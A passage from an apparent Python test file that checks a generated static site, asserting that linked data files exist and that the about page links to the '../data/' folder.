        assert (site / "data" / link).is_file(), link
    assert "../data/" in links((site / "about" / "index.html").read_text(encoding="utf-8"))
